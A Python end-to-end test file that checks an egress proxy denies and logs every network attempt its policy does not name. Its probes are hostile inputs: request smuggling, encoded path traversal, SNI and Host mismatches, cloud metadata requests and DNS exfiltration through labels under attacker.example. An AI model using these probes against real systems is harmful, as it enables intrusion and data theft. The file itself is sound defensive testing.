"""Nothing gets out that the policy does not name: attacks from inside, and an internet outside that answers all.

All of them run in one sandbox. The internet must then have seen nothing at all: no packet and no lookup.
"""

from __future__ import annotations

import json
import re
import socket
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from policies.hostnames import Hostname
from proxy.wire.dns import AAAA, A, encode_name
from tests.end_to_end.world import Ran, World
from tests.proxy.hellos import browser_hello, hello, message, records, server_name, supported_versions

pytestmark = pytest.mark.kernel

POLICY = """
version: 1
workloads:
  app:
    rules:
      - host: api.example
        ports: [80, 443]
        tls: inspect
        allow: ["GET /search/**", "POST /upload"]
        deny: ["* /search/secret/**"]
      - host: "*.cdn.example"
      - {host: web.example, ports: 80}
      - tcp: git.example:22
      - host: deep.under.parent.example
"""
WEB, WEB6, METADATA = "93.184.216.34", "2606:2800:220:1::34", "169.254.169.254"
ACCESS_DENIED = "\x15\x03\x03\x00\x02\x02\x31"  # RFC 8446 6: a fatal alert, access_denied
DECODE_ERROR = "\x15\x03\x03\x00\x02\x02\x32"
CRUMBS = records(message([server_name(b"unknown.example"), supported_versions(0x304)]), 1, 2, 3, 50)
TWO_NAMES = records(message([server_name(b"one.cdn.example", b"evil.example")]))
SECRET_LABEL = "x" * 30 + ".c2VjcmV0LWtleQ.data.attacker.example"


@dataclass(frozen=True, slots=True)
class Attack:
    """A probe; the reason that must stand in the log; what the answer must look like (a pattern)."""

    probe: Mapping[str, Any]
    reason: str
    answer: str


def by_hello(bytes_: bytes, reason: str, answer: str = ACCESS_DENIED, *, to: str = WEB, port: int = 443) -> Attack:
    return Attack(
        {"kind": "tcp", "address": to, "port": port, "say": bytes_.decode("latin-1")}, reason, re.escape(answer)
    )


def by_bytes(say: str, reason: str, answer: str, *, to: str = WEB, port: int = 443) -> Attack:
    return Attack({"kind": "tcp", "address": to, "port": port, "say": say}, reason, answer)


def by_request(say: str, reason: str, status: int, *, sni: str = "api.example") -> Attack:
    probe = {"kind": "tls", "address": WEB, "port": 443, "sni": sni, "say": say}
    return Attack(probe, reason, f"HTTP/1.1 {status} ")


def by_framing(*fields: str, rest: str = "", status: int = 400) -> Attack:
    return by_request(get("/upload", *fields, method="POST") + rest, "malformed_request", status)


def by_plain(say: str, reason: str, status: int, *, to: str = WEB) -> Attack:
    return by_bytes(say, reason, f"HTTP/1.1 {status} ", to=to, port=80)


def by_closed_port(to: str, port: int, reason: str) -> Attack:
    return Attack({"kind": "tcp", "address": to, "port": port, "say": ""}, reason, "ConnectionRefusedError")


def by_path(path: str, status: int = 400, reason: str = "malformed_path") -> Attack:
    return by_request(get(path), reason, status)


def by_datagram(to: str, port: int, reason: str) -> Attack:
    return Attack({"kind": "udp", "address": to, "port": port, "say": "secret"}, reason, "ConnectionRefusedError")


def by_query(name: str, kind: int, reason: str, rcode: int, *, to: str = "8.8.8.8") -> Attack:
    question = (
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + encode_name(Hostname(name)) + kind.to_bytes(2) + b"\0\1"
    )
    probe = {"kind": "udp", "address": to, "port": 53, "say": question.decode("latin-1"), "patience_s": 5}
    return Attack(probe, reason, f"\x12\x34.[{chr(0x80 | rcode)}]\0\1\0\0")


def get(path: str, *fields: str, host: str = "api.example", method: str = "GET") -> str:
    return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *fields, "", ""))


SMUGGLED = get("/nowhere", "Content-Length: 90", method="POST") + get("/search/smuggled")

ATTACKS = {
    # --- the hello
    "unknown host": by_hello(hello("unknown.example"), "no_rule"),
    "apex of a wildcard": by_hello(hello("cdn.example"), "no_rule"),
    "name that only ends alike": by_hello(hello("evilcdn.example"), "no_rule"),
    "no SNI": by_hello(hello(None), "no_sni"),
    "no SNI over IPv6": by_hello(hello(None), "no_sni", to=WEB6),
    "address literal as SNI": by_hello(hello(WEB), "malformed_name"),
    "encrypted hello": by_hello(browser_hello("one.cdn.example"), "ech"),
    "hello in crumbs": by_hello(CRUMBS, "no_rule"),
    "two names in one hello": by_hello(TWO_NAMES, "malformed_hello", DECODE_ERROR),
    "endless hello": by_hello(b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + bytes(0x3FFC), "hello_too_large", DECODE_ERROR),
    "TLS on the port for plain HTTP": by_hello(hello("web.example"), "wrong_protocol", port=80),
    "hello to cloud metadata": by_hello(hello(None), "never_reached", to=METADATA),
    "hello on a port of a tcp rule": by_bytes(hello("one.cdn.example").decode("latin-1"), "no_rule", "", port=22),
    # --- bytes that are neither
    "plain HTTP on a TLS port": by_bytes(get("/", host="one.cdn.example"), "wrong_protocol", "HTTP/1.1 403 "),
    "SSH on 443": by_bytes("SSH-2.0-client\r\n", "no_rule", ""),
    "garbage on 443": by_bytes("\x00\xff\x80 garbage" * 20, "no_rule", ""),
    "a tcp rule's host without a lookup": by_bytes("SSH-2.0-x\r\n", "no_rule", "", to="140.82.112.4", port=22),
    # --- plain HTTP
    "unknown Host": by_plain(get("/", host="unknown.example"), "no_rule", 403),
    "Host of cloud metadata": by_plain(get("/latest/meta-data", host=METADATA), "malformed_name", 400, to=METADATA),
    "no Host": by_plain("GET /search HTTP/1.1\r\n\r\n", "malformed_request", 400),
    "HTTP/0.9": by_plain("GET /search\r\n\r\n", "malformed_request", 400),
    "plain HTTP for a TLS-only host": by_plain(get("/", host="one.cdn.example"), "port", 403),
    "CONNECT through the gate": by_plain(get("api.example:443", method="CONNECT"), "malformed_request", 405),
    # --- the request inside TLS
    "SNI and Host differ": by_request(get("/search", host="one.cdn.example"), "host_mismatch", 421),
    "SNI allowed and Host unknown": by_request(get("/search", host="attacker.example"), "host_mismatch", 421),
    "absolute form of another host": by_request(get("https://attacker.example/search"), "malformed_request", 400),
    "method that is not listed": by_request(get("/search", method="DELETE"), "no_allow_entry", 403),
    "path that is not listed": by_request(get("/other"), "no_allow_entry", 403),
    "path that is denied": by_request(get("/search/secret/1"), "deny_rule", 403),
    "denied path in capitals": by_request(get("/search/SECRET"), "deny_rule", 403),
    "denied path with parameters": by_request(get("/search/secret;v=1/x"), "deny_rule", 403),
    "dot segments": by_path("/search/../other"),
    "encoded dot segments": by_path("/search/%2e%2e/other"),
    "half encoded dot segments": by_path("/search/.%2E/other"),
    "encoded slash": by_path("/search/..%2fother"),
    "backslash": by_path("/search/..\\other"),
    "encoded backslash": by_path("/search/%5c..%5cother"),
    "double encoding": by_path("/search/%252e%252e/other"),
    "overlong UTF-8": by_path("/search/%c0%ae%c0%ae/other"),
    "NUL": by_path("/search/%00"),
    "empty segment": by_path("//search"),
    "parameters after dots": by_path("/search/..;x/other"),
    "both lengths": by_framing("Content-Length: 4", "Transfer-Encoding: chunked", rest="0\r\n\r\n"),
    "two lengths": by_framing("Content-Length: 0", "Content-Length: 44"),
    "a length with a sign": by_framing("Content-Length: +4", rest="abcd"),
    "an unknown coding": by_framing("Transfer-Encoding: xchunked", rest="0\r\n\r\n", status=501),
    "two codings": by_framing("Transfer-Encoding: identity, chunked", rest="0\r\n\r\n", status=501),
    "two Hosts": by_request(get("/search", "Host: attacker.example"), "malformed_request", 400),
    "space before the colon": by_request(get("/search", "Transfer-Encoding : chunked"), "malformed_request", 400),
    "a folded header": by_request(get("/search", "X-Long: a", " b"), "malformed_request", 400),
    "a request in a denied body": by_request(SMUGGLED, "no_allow_entry", 403),
    "WebSocket": by_request(get("/search", "Upgrade: websocket", "Connection: Upgrade"), "upgrade", 403),
    "HTTP/2 by Upgrade": by_request(get("/search", "Upgrade: h2c", "Connection: Upgrade"), "upgrade", 403),
    "HTTP/2 by prior knowledge": by_request("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "malformed_request", 505),
    # --- ports nobody serves
    "another port": by_closed_port(WEB, 8443, "no_rule"),
    "another port over IPv6": by_closed_port(WEB6, 8080, "no_rule"),
    "another port of cloud metadata": by_closed_port(METADATA, 8080, "never_reached"),
    "QUIC": by_datagram(WEB, 443, "no_rule"),
    "UDP over IPv6": by_datagram(WEB6, 4433, "no_rule"),
    "NTP without a rule": by_datagram(WEB, 123, "no_rule"),
    "UDP to cloud metadata": by_datagram("fd00:ec2::254", 8125, "never_reached"),
    # --- DNS
    "data in the labels of a name": by_query(SECRET_LABEL, A, "no_rule", 3),
    "data for an allowed apex's parent": by_query("parent.example", A, "ancestor", 0),
    "a TXT question for an allowed name": by_query("api.example", 16, "query_type", 0),
    "a question over IPv6": by_query("unknown.example", AAAA, "no_rule", 3, to="2001:4860:4860::8888"),
}  # fmt: skip

NO_SOCKET = {
    "raw IPv4": [socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP],
    "raw IPv6": [socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP],
    "packet": [17, socket.SOCK_RAW, 0x300],
    "vsock": [40, socket.SOCK_STREAM, 0],
}


@dataclass(frozen=True, slots=True)
class Outcome:
    results: Mapping[str, Mapping[str, Any]]
    ran: Ran


@pytest.fixture(scope="module")
def outcome(world: World) -> Outcome:
    probes: dict[str, Mapping[str, Any]] = {name: attack.probe for name, attack in ATTACKS.items()}
    for name, kind in NO_SOCKET.items():
        probes[name] = {"kind": "raw", "socket": list(map(int, kind)), "address": WEB, "say": "x"}
    probes["ping"] = {"kind": "raw", "socket": [2, 2, 1], "address": "8.8.8.8", "say": "\x08\0\0\0secret"}
    script = Path(__file__).with_name("inside_probes.py")
    ran = world.run([sys.executable, str(script)], policy=POLICY, stdin=json.dumps(probes).encode())
    assert ran.status == 0, ran.stderr
    return Outcome(json.loads(ran.stdout), ran)


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attempt_that_the_policy_does_not_name_is_refused_and_recorded(outcome: Outcome, name: str) -> None:
    attack, result = ATTACKS[name], outcome.results[name]
    record = record_of(outcome, name)

    assert (record["verdict"], record["reason"], record["workload"]) == ("deny", attack.reason, "app")
    assert re.match(attack.answer, result.get("reply") or result.get("error", ""), re.DOTALL), result
    assert (
        len(re.findall(r"HTTP/1\.1 \d{3} ", result.get("reply", ""))) <= 1
    )  # no second request was found in the first


def record_of(outcome: Outcome, name: str) -> dict[str, Any]:
    """The one record of this attempt: found by its source port, or by its destination where nobody accepted it."""
    probe, result = ATTACKS[name].probe, outcome.results[name]
    if "port" in result:
        found = [
            record
            for record in outcome.ran.records
            if record.get("source.port") == result["port"] and (record["stage"] == "dns") == (probe["kind"] == "udp")
        ]
    else:
        where = (probe["address"], probe["port"])
        found = [
            record
            for record in outcome.ran.records
            if (record.get("destination.address"), record["destination.port"]) == where and "source.port" not in record
        ]
    assert len(found) == 1, found
    return found[0]


def test_not_one_packet_and_not_one_lookup_left(outcome: Outcome) -> None:
    assert outcome.ran.seen.packets == []
    assert outcome.ran.seen.asked == []
    assert outcome.ran.seen.requests == []


@pytest.mark.parametrize("name", list(NO_SOCKET))
def test_a_socket_beside_tcp_and_udp_cannot_be_had(outcome: Outcome, name: str) -> None:
    assert outcome.results[name].get("error") in ("PermissionError", "OSError"), outcome.results[name]


def test_every_record_is_a_denial(outcome: Outcome) -> None:
    assert {record["verdict"] for record in outcome.ran.records} == {"deny"}


def test_the_summary_counts_the_denials_and_allows_nothing(outcome: Outcome) -> None:
    found = re.search(r"^outgate: app: (\d+) allowed, (\d+) denied", outcome.ran.stderr, re.MULTILINE)

    assert found, outcome.ran.stderr
    assert found[1] == "0"
    assert int(found[2]) >= len(ATTACKS) - 2


def test_a_long_summary_is_cut_and_says_where_the_rest_is(outcome: Outcome) -> None:
    assert re.search(r"… and \d+ more; --log FILE keeps all of them", outcome.ran.stderr)
    assert len(outcome.ran.stderr.splitlines()) < 80


def test_the_names_and_bytes_of_denied_attempts_draw_nothing_on_the_terminal(outcome: Outcome) -> None:
    assert all(character.isprintable() or character == "\n" for character in outcome.ran.stderr)
